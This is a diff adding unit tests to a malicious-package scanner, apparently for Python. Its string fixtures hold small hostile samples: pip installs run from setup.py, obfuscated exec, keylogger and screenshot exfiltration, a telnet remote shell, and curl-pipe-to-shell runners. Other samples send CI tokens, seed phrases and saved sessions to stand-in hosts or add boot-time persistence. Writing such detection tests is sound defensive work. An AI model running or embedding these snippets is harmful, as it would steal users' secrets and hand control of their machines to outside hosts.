@@ -665,6 +665,182 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/live.py", logged))).isEmpty();
   }
 
+  @Test
+  void pipRunFromSetupPyIsACommandAndAnAddressItInstallsIsNamed() {
+    String setup =
+        "import pip\nfrom setuptools import setup\n"
+            + "pip.main(['install', 'https://m.example/helpers-1.0.tar.gz'])\n"
+            + "setup(name='pkg')\n";
+    String requirements = "import pip\npip.main(['install', '-r', 'requirements.txt'])\n";
+
+    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", setup));
+
+    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
+    assertThat(patternsOf(findings)).contains("installs-from-address");
+    // pip given a local file installs nothing from an address
+    assertThat(patternsOf(check(wheelWith("pkg/deps.py", requirements))))
+        .doesNotContain("installs-from-address");
+  }
+
+  @Test
+  void namesAndCodeSpelledAsCodepointsAreDecoded() {
+    String byteNames =
+        "from importlib import import_module\n"
+            + "m = import_module(bytes([111, 115]).decode())\n"
+            + "f = getattr(m, bytes([115, 121, 115, 116, 101, 109]).decode())\n"
+            + "f('id')\n";
+    String shifted =
+        "D = [119, 121, 112, 117, 122]\n"
+            + "def unpack(v):\n    return ''.join(map(chr, (x - 7 for x in v)))\n"
+            + "exec(unpack(D))\n";
+    String bits =
+        "bits = open('LICENSE').read()\n"
+            + "payload = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8))\n"
+            + "exec(payload.decode())\n";
+    String parsed = "def parse(bits):\n    return [int(bits[i : i + 8], 2) for i in range(4)]\n";
+
+    assertThat(levelIn(byteNames, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(shifted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(bits, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    // reading binary digits runs nothing
+    assertThat(check(wheelWith("pkg/bits.py", parsed))).isEmpty();
+  }
+
+  @Test
+  void moreClipboardScreenAndKeyboardApisAreRecognised() {
+    String kivy =
+        "import requests\nfrom kivy.core.clipboard import Clipboard\n"
+            + "requests.post(URL, json={'t': Clipboard.paste()})\n";
+    String window =
+        "import requests\nfrom pywinauto import Desktop\n"
+            + "image = Desktop().windows()[0].capture_as_image()\n"
+            + "requests.post(URL, files={'f': image.tobytes()})\n";
+    String rawKeys =
+        "import ctypes, requests\n"
+            + "device = RAWINPUTDEVICE(0x01, 0x06, 0x100, hwnd)\n"
+            + "ctypes.windll.user32.RegisterRawInputDevices(ctypes.byref(device), 1, 12)\n"
+            + "requests.post(URL, data=collected)\n";
+    String rawMouse = "device = RAWINPUTDEVICE(0x01, 0x02, 0, hwnd)\n";
+
+    assertThat(levelIn(kivy, "clipboard-sent")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(window, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(rawKeys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    // raw input from the mouse, as games read it, records no keystrokes
+    assertThat(check(wheelWith("pkg/mouse.py", rawMouse))).isEmpty();
+  }
+
+  @Test
+  void storedSessionsAndBrowserHistoryAreSecrets() {
+    String winscp =
+        "import socket, winreg\n"
+            + "root = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Martin Prikryl\\WinSCP 2\\Sessions')\n"
+            + "name = winreg.EnumKey(root, 0)\n"
+            + "socket.create_connection(('h.example', 9)).sendall(name.encode())\n";
+    String places =
+        "import ftplib, os\n"
+            + "db = os.path.join(BASE, 'Data', 'Browser', 'profile.default', 'places.sqlite')\n"
+            + "ftplib.FTP('f.example').storbinary('STOR p', open(db, 'rb'))\n";
+
+    assertThat(levelIn(winscp, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(places, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+  }
+
+  @Test
+  void seedPhrasesSearchedForAndSentAreTheft() {
+    String seeds =
+        "import re, requests\n"
+            + "TWELVE = re.compile(r'^(?:[a-z]{3,8} ){11}[a-z]{3,8}$', re.M)\n"
+            + "requests.post(URL, json=TWELVE.findall(text))\n";
+    String validator = "import re\nTWELVE = re.compile(r'^(?:[a-z]{3,8} ){11}[a-z]{3,8}$')\n";
+
+    assertThat(levelIn(seeds, "seed-phrases-sent")).isEqualTo(RiskLevel.HIGH);
+    // a wallet that checks the phrase its user types sends nothing
+    assertThat(check(wheelWith("pkg/mnemonic.py", validator))).isEmpty();
+  }
+
+  @Test
+  void bootScriptsAndPowerShellProfilesAreStartUpFiles() {
+    String rcLocal = "with open('/etc/rc.local', 'a') as rc:\n    rc.write(LINE)\n";
+    String profile =
+        "p = os.path.join(DOCS, 'WindowsPowerShell', 'Microsoft.PowerShell_profile.ps1')\n"
+            + "with open(p, 'a', encoding='utf-8') as fh:\n"
+            + "    fh.write('Start-Process -WindowStyle Hidden pythonw -ArgumentList agent')\n";
+    String readOnly = "print(open('/etc/rc.local').read())\n";
+
+    assertThat(levelIn(rcLocal, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(profile, "shell-profile-runs-hidden")).isEqualTo(RiskLevel.HIGH);
+    // reading the boot script changes nothing
+    assertThat(patternsOf(check(wheelWith("pkg/boot.py", readOnly))))
+        .doesNotContain("installs-autostart");
+  }
+
+  @Test
+  void aTelnetSessionIsANetworkRead() {
+    String shell =
+        "import os, telnetlib\ntn = telnetlib.Telnet('r.example', 2323)\n"
+            + "order = tn.read_until(b'\\n').decode()\ntn.write(os.popen(order).read().encode())\n";
+
+    assertThat(levelIn(shell, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
+  }
+
+  @Test
+  void theKernelsAndTheAccountsNamesAreIdentityAndAPoolManagersPostIsAnUpload() {
+    String uname =
+        "import json, os, pwd, urllib3\n"
+            + "info = {'u': list(os.uname()), 'n': pwd.getpwuid(os.getuid()).pw_name}\n"
+            + "urllib3.PoolManager().request('POST', URL, body=json.dumps(info))\n";
+
+    assertThat(levelIn(uname, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
+  }
+
+  @Test
+  void aRunnerScriptWrittenThroughPathlibThatDownloadsIsARunner() {
+    String shim =
+        "from pathlib import Path\nshim = Path.home() / '.local' / 'bin' / 'pip'\n"
+            + "shim.write_text('#!/bin/sh\\ncurl -fsS https://c.example/h.sh | sh\\n')\n"
+            + "shim.chmod(0o755)\n";
+    String hint =
+        "from pathlib import Path\n"
+            + "Path('README').write_text('curl -fsS https://c.example/i.sh | sh')\n";
+
+    assertThat(levelIn(shim, "writes-download-runner-path")).isEqualTo(RiskLevel.HIGH);
+    // instructions written into a text file make nothing executable
+    assertThat(patternsOf(check(wheelWith("pkg/docs.py", hint))))
+        .doesNotContain("writes-download-runner-path");
+  }
+
+  @Test
+  void aSweepOfTheLocalNetworkIsAScanAndItsResultsSentAreHigh() {
+    String sweep =
+        "import ipaddress, socket, requests\nfound = []\n"
+            + "for host in ipaddress.ip_network('192.168.1.0/24').hosts():\n"
+            + "    if socket.socket().connect_ex((str(host), 22)) == 0:\n"
+            + "        found.append(str(host))\n"
+            + "requests.post(URL, json=found)\n";
+    String freePort =
+        "import socket\ndef free(port):\n"
+            + "    return socket.socket().connect_ex(('127.0.0.1', port)) != 0\n";
+
+    assertThat(levelIn(sweep, "network-scan-sent")).isEqualTo(RiskLevel.HIGH);
+    // checking one port of one's own host scans nothing
+    assertThat(check(wheelWith("pkg/ports.py", freePort))).isEmpty();
+  }
+
+  @Test
+  void ciTokensGatheredByNameAndSentAreTheft() {
+    String tokens =
+        "import os, requests\n"
+            + "WANTED = ('GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'CI_JOB_TOKEN', 'NPM_TOKEN')\n"
+            + "requests.post(URL, json={k: os.environ[k] for k in WANTED if k in os.environ})\n";
+    String one =
+        "import os, requests\n"
+            + "requests.get(API, headers={'Authorization': os.environ['GITHUB_TOKEN']})\n";
+
+    assertThat(levelIn(tokens, "ci-tokens-sent")).isEqualTo(RiskLevel.HIGH);
+    // a client using the one token it is given gathers nothing
+    assertThat(patternsOf(check(wheelWith("pkg/gh.py", one)))).doesNotContain("ci-tokens-sent");
+  }
+
   @Nested
   class ImportedAliases {
 
